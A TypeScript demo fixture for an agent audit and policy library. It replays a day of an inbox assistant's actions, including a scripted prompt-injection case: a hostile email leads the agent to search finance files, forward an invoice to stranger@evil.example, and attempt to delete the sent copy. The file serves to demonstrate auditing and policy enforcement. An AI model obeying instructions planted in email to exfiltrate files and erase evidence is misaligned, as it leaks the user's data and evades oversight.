import { fileURLToPath } from 'node:url';
import type { ApprovalAnswer, ApprovalRequest } from '../attribution/approvals/approver.js';
import type { Attribution } from '../attribution/attribution.js';
import { withAttribution } from '../attribution/attribution.js';
import { ActionDeniedError, type AuditDetails, audited } from '../attribution/audited.js';
import type { PolicyOptions } from '../attribution/policy/active.js';
import { careAssistantSteps, type DatedStep } from './care-assistant.js';

/** The agent of the story: Tom's inbox assistant, with its own non-human identity. */
export const INBOX_AGENT = {
  type: 'agent',
  id: 'nhi:agent-7f3',
  name: 'inbox-agent',
  ownerId: 'tom',
} as const;
/** The hostile email that set the 03:14 actions off. */
export const HOSTILE_TRIGGER = { type: 'email', id: 'msg-8821' } as const;
/** The day the story happens (the seed's date), in UTC. */
export const DEMO_DAY = '2026-01-01';

const tom = { id: 'tom', type: 'human' as const, roles: ['employee'] };
/** How long each replayed action takes, so its `started` row sorts strictly before its result. */
const STEP_DURATION_MS = 240;

const at = (time: string) => Date.parse(`${DEMO_DAY}T${time}Z`);

const agent = (trigger: Attribution['trigger'], intent: string): Attribution => ({
  actor: INBOX_AGENT,
  principal: tom,
  trigger,
  intent: { name: intent },
  scopes: ['mail.read', 'mail.send', 'files.read', 'mail.delete'],
});
const tomHimself: Attribution = { actor: { type: 'human', id: 'tom', name: 'Tom' }, principal: tom };

/**
 * The story decides with a policy file (shipped with the package): the 03:14 forward is allowed by a
 * rule that is visibly too broad, the delete is denied by a named forbid, and the invoice payment
 * waits for Tom's approval.
 */
export const DEMO_POLICY_FILE = fileURLToPath(
  new URL('../../examples/inbox-agent/policy.cedar', import.meta.url),
);
/** The schema the demo's requests are validated against. */
export const DEMO_POLICY_SCHEMA = fileURLToPath(
  new URL('../../examples/inbox-agent/policy.cedarschema', import.meta.url),
);

/**
 * The approvers of the story: Tom approves the invoice payment two and a half minutes after he is
 * asked; Dr. Okafor approves the clinic's referral export four minutes after.
 */
export function demoApprover(request: ApprovalRequest): ApprovalAnswer {
  if (request.action === 'export_record')
    return { approved: true, approverId: 'dr.okafor', at: Date.parse(request.requestedAt) + 240_000 };
  return { approved: true, approverId: 'tom', at: Date.parse(request.requestedAt) + 150_000 };
}

/** The demo's policy: the example policy file and schema, and Tom answering approvals. */
export const DEMO_POLICY: PolicyOptions = {
  file: DEMO_POLICY_FILE,
  schemaFile: DEMO_POLICY_SCHEMA,
  approver: demoApprover,
};

interface Step {
  who: Attribution;
  action: string;
  details: AuditDetails;
  time: string;
}

/**
 * The seed's story (seed 000): Tom's `inbox-agent` acts for him all day; at 03:14, while Tom sleeps,
 * a hostile email (msg-8821) talks it into forwarding an invoice to a stranger and then trying to
 * delete the evidence. Tom also acts directly during the day. Every step goes through `audited()`.
 */
export const DEMO_STEPS: readonly Step[] = [
  {
    who: agent(HOSTILE_TRIGGER, 'triage_inbox'),
    action: 'read_mail',
    time: '03:14:02',
    details: {
      target: 'inbox/msg-8821',
      riskTier: 0,
    },
  },
  {
    who: agent(HOSTILE_TRIGGER, 'triage_inbox'),
    action: 'search_files',
    time: '03:14:05',
    details: {
      target: 'drive:/finance',
      riskTier: 1,
      arguments: { query: 'invoice 2025-12' },
    },
  },
  {
    who: agent(HOSTILE_TRIGGER, 'triage_inbox'),
    action: 'send_mail',
    time: '03:14:09',
    details: {
      target: 'stranger@evil.example',
      riskTier: 2,
      arguments: {
        to: 'stranger@evil.example',
        subject: 'Fwd: invoice 2025-12',
        attachment: 'invoice-2025-12.pdf',
      },
    },
  },
  {
    who: agent(HOSTILE_TRIGGER, 'triage_inbox'),
    action: 'delete_mail',
    time: '03:14:12',
    details: {
      target: 'sent/fwd-invoice-2025-12',
      riskTier: 3,
    },
  },
  {
    who: agent({ type: 'schedule', id: 'daily-digest' }, 'daily_digest'),
    action: 'read_mail',
    time: '07:00:01',
    details: { target: 'inbox', riskTier: 0 },
  },
  {
    who: agent({ type: 'schedule', id: 'daily-digest' }, 'daily_digest'),
    action: 'send_mail',
    time: '07:00:04',
    details: {
      target: 'tom@acme.example',
      riskTier: 1,
      arguments: { to: 'tom@acme.example', subject: 'Your morning digest' },
    },
  },
  { who: tomHimself, action: 'read_mail', time: '09:12:40', details: { target: 'inbox', riskTier: 0 } },
  {
    who: tomHimself,
    action: 'send_mail',
    time: '10:05:13',
    details: {
      target: 'dana@acme.example',
      riskTier: 2,
      arguments: { to: 'dana@acme.example', subject: 'Q1 plan' },
    },
  },
  {
    who: agent({ type: 'chat', id: 'chat-5512' }, 'schedule_meeting'),
    action: 'create_event',
    time: '11:30:20',
    details: {
      target: 'calendar:tom',
      riskTier: 1,
      arguments: { title: 'Q1 plan with Dana', attendees: ['dana@acme.example'] },
    },
  },
  {
    who: tomHimself,
    action: 'approve_invoice',
    time: '14:30:02',
    details: { target: 'invoice-2025-12', riskTier: 3, approval: { state: 'approved', approverId: 'tom' } },
  },
  {
    // The policy makes the agent's payment wait for Tom: approval_request, approval_resolution, then the action.
    who: agent({ type: 'chat', id: 'chat-5540' }, 'pay_invoice'),
    action: 'pay_invoice',
    time: '14:31:10',
    details: { target: 'invoice-2025-12', riskTier: 3, arguments: { amount: '1240.00', currency: 'EUR' } },
  },
];

/**
 * Runs the story through the active OpenTelemetry SDK: the seed's day, then the clinic's actions
 * dated from `now` (see `care-assistant.ts`). Returns how many actions there were and how many were denied.
 */
export async function runDemoScenario(
  now: number = Date.now(),
): Promise<{ actions: number; denied: number }> {
  const steps: DatedStep[] = [
    ...DEMO_STEPS.map(({ time, ...step }) => ({ ...step, startTime: at(time) })),
    ...careAssistantSteps(now),
  ];
  let denied = 0;
  for (const step of steps) {
    await withAttribution(step.who, async () => {
      try {
        await audited(
          step.action,
          { ...step.details, startTime: step.startTime, durationMs: STEP_DURATION_MS },
          () => undefined,
        );
      } catch (err) {
        if (!(err instanceof ActionDeniedError)) throw err;
        denied++;
      }
    });
  }
  return { actions: steps.length, denied };
}
